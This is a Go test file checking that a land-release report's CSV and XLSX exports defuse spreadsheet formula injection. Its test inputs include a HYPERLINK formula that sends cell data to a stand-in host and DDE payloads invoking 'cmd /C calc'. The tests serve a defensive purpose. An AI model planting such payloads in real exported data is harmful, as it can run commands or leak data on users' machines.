package report_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/landrelease/landrelease/internal/report"
	"github.com/xuri/excelize/v2"
)

func TestCSVText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+33 1 23", "'+33 1 23"},
		{"-BLU-26", "'-BLU-26"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{`=HYPERLINK("http://x.example/?"&A1,"Click")`, `'=HYPERLINK("http://x.example/?"&A1,"Click")`},
		{"", ""},
		{"LA-SV", "LA-SV"},
		{"Savannakhét", "Savannakhét"},
		{" =1+1", " =1+1"},   // a spreadsheet reads a leading space as text
		{"'=1+1", "'=1+1"},   // already quoted
		{"＝1+1", "＝1+1"},     // a full-width equals sign is not a formula
		{"1-2", "1-2"},       // only the first character counts
		{"Total", "Total"},   // the total row
		{"\n=1+1", "\n=1+1"}, // a line feed is quoted by the CSV writer, and not a formula lead
		{"–1", "–1"},         // an en dash is not a minus sign
		{"TOTAL", "TOTAL"},   // the total's code
		{"=", "'="},          // a lone lead character
		{"@", "'@"},
	} {
		if got := report.CSVText(tc.in); got != tc.want {
			t.Errorf("CSVText(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got, want := report.Formulaic(tc.in), tc.want != tc.in; got != want {
			t.Errorf("Formulaic(%q) = %v, want %v", tc.in, got, want)
		}
	}
}

// formulaCells are text cells, one for each lead character a spreadsheet may run, with the CSV cell each must give.
var formulaCells = []struct{ name, text, csv string }{
	{"equals", `=HYPERLINK("http://x.example/?"&A1,"Click")`, `'=HYPERLINK("http://x.example/?"&A1,"Click")`},
	{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"minus", "-2+3", "'-2+3"},
	{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"tab", "\t=1+1", "'\t=1+1"},
	{"carriage return", "\r=1+1", "'\r=1+1"},
	{"plain", "Xiangkhouang, north", "Xiangkhouang, north"},
}

func TestCSVFormulaInjection(t *testing.T) {
	for _, tc := range formulaCells {
		t.Run(tc.name, func(t *testing.T) {
			r := sample()
			r.Units[1].Name = tc.text
			r.Units[1].Code = tc.text
			var b bytes.Buffer
			if err := report.CSV(&b, r); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != 4 {
				t.Fatalf("%d records, want the header, 2 units and the total", len(recs))
			}
			xk := recs[2]
			if xk[0] != tc.csv || xk[1] != tc.csv {
				t.Errorf("code and name %q, %q; want %q", xk[0], xk[1], tc.csv)
			}
			// Figures stay numbers: a negative one keeps its minus sign, unquoted.
			if xk[13] != "-3400" || recs[3][13] != "-2200" {
				t.Errorf("balance differences %q and %q, want -3400 and -2200", xk[13], recs[3][13])
			}
			if strings.Join(recs[0], ",") != wantHeader {
				t.Errorf("header %q", recs[0])
			}
		})
	}
}

func TestXLSXFormulaInjection(t *testing.T) {
	for _, tc := range formulaCells {
		t.Run(tc.name, func(t *testing.T) {
			r := sample()
			r.State = tc.text
			r.Units[1].Name = tc.text
			r.Units[1].Code = tc.text
			r.Total.ItemsDestroyed = map[string]int{tc.text: 7}
			r.Differences[1].AdminCode = tc.text
			r.Differences[1].LocalID = tc.text
			r.Differences[1].Reason = tc.text
			var b bytes.Buffer
			if err := report.XLSX(&b, r); err != nil {
				t.Fatal(err)
			}
			f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			// Every cell of the text is a string cell with the text as it is (no quote: the type says it is text),
			// and no formula.
			for _, c := range []struct{ sheet, ref string }{
				{report.SheetFormF, "B2"},  // the State
				{report.SheetFormF, "A12"}, // the unit's name
				{report.SheetFormF, "B12"}, // its code
				{report.SheetFormF, "A17"}, // the device type of table 2
				{report.SheetDifferences, "A5"},
				{report.SheetDifferences, "B5"},
				{report.SheetDifferences, "F5"},
				{report.SheetData, "A3"},
				{report.SheetData, "B3"},
			} {
				typ, err := f.GetCellType(c.sheet, c.ref)
				if err != nil {
					t.Fatal(err)
				}
				v, _ := f.GetCellValue(c.sheet, c.ref, excelize.Options{RawCellValue: true})
				formula, _ := f.GetCellFormula(c.sheet, c.ref)
				if typ != excelize.CellTypeSharedString || formula != "" || !strings.Contains(v, tc.text) {
					t.Errorf("%s!%s: type %v, formula %q, value %q; want a shared string with %q", c.sheet, c.ref, typ, formula, v, tc.text)
				}
			}
			// Figures stay numbers, negative ones too.
			for _, c := range []struct{ sheet, ref, want string }{
				{report.SheetFormF, "P12", "-3400"},
				{report.SheetDifferences, "E5", "-3400"},
				{report.SheetData, "N3", "-3400"},
			} {
				typ, _ := f.GetCellType(c.sheet, c.ref)
				v, _ := f.GetCellValue(c.sheet, c.ref, excelize.Options{RawCellValue: true})
				if typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString || v != c.want {
					t.Errorf("%s!%s: type %v value %q, want the number %s", c.sheet, c.ref, typ, v, c.want)
				}
			}
			// No sheet of the package holds a formula element.
			zr, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
			if err != nil {
				t.Fatal(err)
			}
			for _, zf := range zr.File {
				if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
					continue
				}
				rc, err := zf.Open()
				if err != nil {
					t.Fatal(err)
				}
				x, err := io.ReadAll(rc)
				rc.Close()
				if err != nil {
					t.Fatal(err)
				}
				if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
					t.Errorf("%s holds a formula", zf.Name)
				}
			}
		})
	}
}
